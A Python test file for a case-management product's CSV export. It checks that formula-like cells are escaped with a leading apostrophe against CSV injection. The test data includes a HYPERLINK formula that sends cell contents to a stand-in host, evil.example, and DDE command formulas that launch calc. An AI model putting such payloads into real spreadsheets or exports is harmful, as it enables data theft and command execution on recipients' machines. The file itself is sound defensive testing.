"""Every CSV the product writes goes through smf.core.spreadsheet, which makes a
text cell that a spreadsheet would run as a formula inert (OWASP's rule for CSV
injection: a leading apostrophe before =, +, -, @, tab and carriage return)."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from reports.exports import figures_csv
from smf.core.spreadsheet import cell_safe
from tests import factories

ROOT = Path(__file__).resolve().parent.parent
PACKAGES = ("smf", "cases", "shelters", "reintegration", "outreach", "reports")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_is_written_as_text(text):
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Cambodian", "", "TD-2011-0001", "ស្រីមុំ", 12, -3, Decimal("-1.50")]
)
def test_other_cells_are_written_as_they_are(value):
    assert cell_safe(value) == value


def test_no_csv_is_written_around_the_safe_writer():
    """A csv.writer or DictWriter anywhere else in the product would bypass it."""
    bypasses, scanned = [], 0
    for package in PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            if "migrations" in path.parts or path.name == "spreadsheet.py":
                continue
            scanned += 1
            for node in ast.walk(ast.parse(path.read_text(), str(path))):
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                    if isinstance(node.value, ast.Name) and node.value.id == "csv":
                        bypasses.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert scanned > 50
    assert bypasses == []


@pytest.mark.django_db
def test_the_case_export_neutralises_a_formula_typed_as_nationality(
    login, social_worker_tom_dy, tom_dy
):
    for number, text in enumerate(FORMULAS, start=1):
        case = factories.case(f"TD-2026-{number:04d}", nationality=text)
        factories.stay(case, tom_dy)
    response = login(social_worker_tom_dy).get("/cases/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    written = sorted(row["nationality"] for row in rows)
    assert len(written) == len(FORMULAS)
    assert written == sorted("'" + text for text in FORMULAS)


def test_the_figures_csv_keeps_negative_numbers_as_numbers():
    text = figures_csv(
        2012,
        {"residents": 10, "startup_kit_average": Decimal("650.00")},
        {"residents": 13, "startup_kit_average": Decimal("700.00")},
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["key", "2012", "2011", "change"]
    assert rows[1] == ["residents", "10", "13", "-3"]
    assert rows[2] == ["startup_kit_average", "650.00", "700.00", "-50.00"]
